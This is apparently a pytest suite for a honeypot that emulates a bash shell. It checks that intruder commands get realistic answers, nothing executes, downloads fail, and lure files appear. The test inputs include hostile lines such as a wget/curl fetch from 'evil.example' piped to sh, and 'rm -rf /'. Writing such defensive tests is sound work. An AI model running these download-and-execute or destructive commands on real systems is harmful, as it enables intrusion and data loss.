"""The emulated shell as an intruder types at it: bash's answers, no execution, lures shown."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from decnet.emulators import shell

NOW = 1_800_000_000.0


def _shell(user: str = "root", interactive: bool = True, lures: dict[str, shell.Node] | None = None,
           busybox: bool = False) -> shell.Shell:
    persona = shell.Persona(hostname="web-01", users=("admin",), ip="10.20.0.15",
                            boot_time=NOW - 86400 * 3, busybox=busybox)
    return shell.Shell(shell.build_fs(persona, lures), persona, user, interactive,
                       src_ip="10.20.0.99", clock=lambda: NOW)


def test_identity_commands_agree_with_the_persona() -> None:
    sh = _shell()
    assert sh.run("whoami").output == "root\n"
    assert sh.run("id").output == "uid=0(root) gid=0(root) groups=0(root)\n"
    assert sh.run("hostname").output == "web-01\n"
    assert sh.run("cat /etc/hostname").output == "web-01\n"
    uname = sh.run("uname -a").output
    assert uname.startswith("Linux web-01 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian")
    assert uname.endswith("x86_64 GNU/Linux\n")
    assert sh.run("uname").output == "Linux\n"
    assert "inet 10.20.0.15" in sh.run("ifconfig").output
    assert "inet 10.20.0.15/24" in sh.run("ip a").output
    assert "admin:x:1000:1000:" in sh.run("cat /etc/passwd").output
    assert sh.prompt() == "root@web-01:~# "


def test_navigation_and_listing() -> None:
    sh = _shell("admin")
    assert sh.prompt() == "admin@web-01:~$ "
    assert sh.run("pwd").output == "/home/admin\n"
    assert sh.run("cd /etc; pwd").output == "/etc\n"
    assert sh.prompt() == "admin@web-01:/etc$ "
    listing = sh.run("ls -la /home/admin").output
    assert listing.startswith("total ")
    assert ".bashrc" in listing and " admin    admin " in listing
    assert sh.run("ls /nope").output == "ls: cannot access '/nope': No such file or directory\n"
    assert sh.run("cd /nope").output == "-bash: cd: /nope: No such file or directory\n"
    assert "bash" in sh.run("ls /bin").output.split()  # /bin -> usr/bin
    assert sh.run("ls -a ~ | head -3").output == ".\n..\n.bash_logout\n"  # one per line
    assert sh.run("cat /etc/shadow").output == "cat: /etc/shadow: Permission denied\n"
    assert "Permission denied" in sh.run("ls /root").output


def test_bot_fingerprinting_pipelines_answer_like_a_host() -> None:
    sh = _shell()
    assert sh.run("cat /proc/cpuinfo | grep name | wc -l").output == "2\n"
    assert sh.run("cat /proc/cpuinfo | grep 'model name' | head -n 1").output.startswith(
        "model name\t: Intel(R) Xeon(R)")
    assert sh.run("nproc").output == "2\n"
    free = sh.run("free -m | grep Mem").output
    assert free.startswith("Mem:") and len(free.split()) == 7
    assert sh.run("echo -e '\\x61\\x62c'").output == "abc\n"
    assert sh.run("echo $HOME $USER").output == "/root root\n"
    assert sh.run("echo '$HOME'").output == "$HOME\n"
    assert sh.run("crontab -l").output == "no crontab for root\n"


def test_operators_and_redirections_are_interpreted_not_executed() -> None:
    sh = _shell()
    assert sh.run("false && echo yes || echo no").output == "no\n"
    assert sh.run("true && echo yes; echo two").output == "yes\ntwo\n"
    assert sh.run("cat /nope 2>/dev/null").output == ""
    assert sh.run("echo hidden > /tmp/x").output == ""
    assert sh.run("cat /tmp/x").output == "cat: /tmp/x: No such file or directory\n"  # nothing stored
    assert sh.run("rm -rf / && echo gone").output == "gone\n"
    assert sh.run("cat /etc/hostname").output == "web-01\n"  # ...and nothing removed
    assert sh.run("sh -c 'whoami; hostname'").output == "root\nweb-01\n"
    assert sh.run("echo \"unclosed").output.startswith("-bash: unexpected EOF")


def test_unknown_commands_and_binaries() -> None:
    sh = _shell()
    assert sh.run("nmap -sS 10.0.0.0/8").output == "-bash: nmap: command not found\n"
    assert sh.run("./xmrig").output == "-bash: ./xmrig: No such file or directory\n"
    assert sh.run("python3 -c 'import os'").output == "-bash: python3: command not found\n"
    busy = _shell(busybox=True)
    assert busy.run("/bin/busybox ECCHI").output == "ECCHI: applet not found\n"
    assert busy.run("foo").output == "-sh: foo: not found\n"


def test_downloads_fail_and_report_the_url() -> None:
    sh = _shell()
    result = sh.run("cd /tmp; wget http://203.0.113.7/bins/x86 -O x; curl -fsSL evil.example/a.sh"
                    " | sh")
    assert result.urls == ["http://203.0.113.7/bins/x86", "http://evil.example/a.sh"]
    assert "Connecting to 203.0.113.7:80... failed: Connection timed out." in result.output
    assert "curl: (6) Could not resolve host: evil.example" in result.output


def test_sudo_asks_three_times_and_fails() -> None:
    sh = _shell("admin")
    first = sh.run("sudo cat /etc/shadow")
    assert first.password_prompt == "[sudo] password for admin: "
    assert sh.pending_password()
    assert sh.run("guess1").output == "Sorry, try again.\n"
    assert sh.run("guess2").output == "Sorry, try again.\n"
    last = sh.run("guess3")
    assert last.output == "sudo: 3 incorrect password attempts\n" and not last.password_prompt
    assert not sh.pending_password()
    exec_mode = _shell("admin", interactive=False)
    assert "a terminal is required" in exec_mode.run("sudo id").output


def test_telnet_sessions_look_like_login_not_sshd() -> None:
    persona = shell.Persona(hostname="web-01")
    sh = shell.Shell(shell.build_fs(persona), persona, "root", via="telnet")
    assert "login -- root" in sh.run("ps aux").output
    assert "SSH_CONNECTION" not in sh.run("env").output
    assert "sshd: root [priv]" in _shell().run("ps aux").output


def test_env_history_and_exit() -> None:
    sh = _shell()
    sh.run("ls")
    env = sh.run("env").output
    assert "HOME=/root" in env and "HOSTNAME=web-01" in env
    assert sh.run("history").output == "    1  ls\n    2  env\n    3  history\n"
    assert sh.run("exit").exit
    assert sh.run("logout").exit


def test_lure_files_appear_at_their_paths(tmp_path: Path) -> None:
    (tmp_path / "home" / "admin").mkdir(parents=True)
    (tmp_path / "home" / "admin" / "passwords.txt").write_text("vpn: Winter2024!\n")
    (tmp_path / "srv" / "backup").mkdir(parents=True)
    (tmp_path / "srv" / "backup" / "db.sql").write_text("INSERT INTO users ...\n")
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc" / "not-scanned.conf").write_text("x")
    os.symlink("/etc/hostname", tmp_path / "home" / "admin" / "link")
    (tmp_path / "root" / ".cache" / "pip").mkdir(parents=True)
    (tmp_path / "root" / ".cache" / "pip" / "wheel.txt").write_text("asyncssh-2.10.1")
    (tmp_path / "root" / ".ssh").mkdir()
    (tmp_path / "root" / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    lures = shell.lure_files(str(tmp_path))
    assert set(lures) == {"/home/admin/passwords.txt", "/srv/backup/db.sql", "/root/.ssh/id_rsa"}
    sh = _shell("admin", lures=lures)
    assert sh.run("cat /home/admin/passwords.txt").output == "vpn: Winter2024!\n"
    assert "passwords.txt" in sh.run("ls").output
    assert " admin    admin " in sh.run("ls -l passwords.txt").output
    assert sh.run("cat /srv/backup/db.sql").output.startswith("INSERT")


def test_lure_scan_is_bounded(tmp_path: Path) -> None:
    (tmp_path / "opt").mkdir()
    for i in range(20):
        (tmp_path / "opt" / f"f{i:02}").write_bytes(b"A" * 5000)
    lures = shell.lure_files(str(tmp_path), max_files=5, max_bytes=100, max_total=350)
    assert len(lures) <= 5
    assert all(len(n.content) <= 100 for n in lures.values())
    assert sum(len(n.content) for n in lures.values()) <= 350


@pytest.mark.parametrize("line", [
    "A" * 100_000, "\x00\xff\x1b[2J" * 1000, ";" * 5000, "| | |", "a " * 5000,
    "$(" * 2000, "'" * 3001, "echo " + "&&" * 3000, "sh -c " + "'sh -c " * 50,
    "wget http://[::1/x", "curl 'http://a:99999999/'",
])
def test_hostile_lines_get_an_answer_never_an_exception(line: str) -> None:
    sh = _shell()
    result = sh.run(line)
    assert len(result.output) <= shell.MAX_OUTPUT
    assert sh.run("pwd").output == "/root\n"


def test_history_is_bounded() -> None:
    sh = _shell()
    for i in range(shell.MAX_HISTORY + 50):
        sh.run(f"echo {i}")
    assert len(sh.history) == shell.MAX_HISTORY


def test_accepted_logins_follow_the_config() -> None:
    config = {"users": {"root": ["123456"], "admin": "admin"}, "acceptAfter": 0}
    assert shell.password_ok(config, "root", "123456", 0)
    assert shell.password_ok(config, "admin", "admin", 0)
    assert not shell.password_ok(config, "root", "admin", 0)
    assert not shell.password_ok(config, "nobody", "123456", 0)
    later = {**config, "acceptAfter": 2}
    assert not shell.password_ok(later, "root", "123456", 1)
    assert shell.password_ok(later, "root", "123456", 2)
    assert shell.home_users(config) == ("admin",)
    failures = shell.Failures(limit=3)
    for ip in ("a", "b", "c", "d"):
        failures.add(ip)
    assert failures.get("a") == 0 and failures.get("d") == 1 and len(failures.counts) == 3


def test_family_modules_never_spawn_evaluate_or_write() -> None:
    """A guard on the source: no process, no eval, no file written, in any of these modules."""
    import re

    from decnet.emulators.services import ftp, ssh, telnet, tftp

    forbidden = re.compile(r"subprocess|os\.(system|popen|exec|spawn|fork|remove|unlink|mkdir|"
                           r"makedirs|rename|replace|chmod)|\beval\(|\bexec\(|(?<!re\.)\bcompile\(|"
                           r"__import__|shutil|\.write_(text|bytes)|open\([^)]*['\"][wax+]")
    for module in (shell, ssh, telnet, ftp, tftp):
        source = Path(str(module.__file__)).read_text()
        assert not forbidden.search(source), (module.__name__, forbidden.search(source))
